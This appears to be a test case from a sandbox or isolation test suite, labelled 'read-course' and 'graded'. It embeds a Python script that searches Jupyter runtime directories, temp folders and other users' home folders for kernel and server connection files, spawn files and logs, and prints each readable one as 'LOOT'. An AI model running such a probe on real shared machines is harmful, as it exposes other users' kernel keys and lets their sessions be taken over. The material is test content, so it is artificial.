"""Look for the connection files and keys of other kernels and of Jupyter servers.

class: read-course
expect: graded
"""

EXTRA = [
    """import glob
import os

from jupyter_core import paths

folders = {paths.jupyter_runtime_dir(), "/tmp", "/run", "/var/tmp", "/dev/shm"}
for homes in ("/*", "/*/*"):
    folders |= set(glob.glob(homes + "/.local/share/jupyter/runtime"))
for folder in folders:
    for pattern in ("*kernel-*.json", "jpserver-*.json", "nbserver-*.json", "*/spawn", "*/log"):
        for path in glob.glob(os.path.join(folder, pattern)):
            if os.access(path, os.R_OK):
                print("LOOT:", path)"""
]
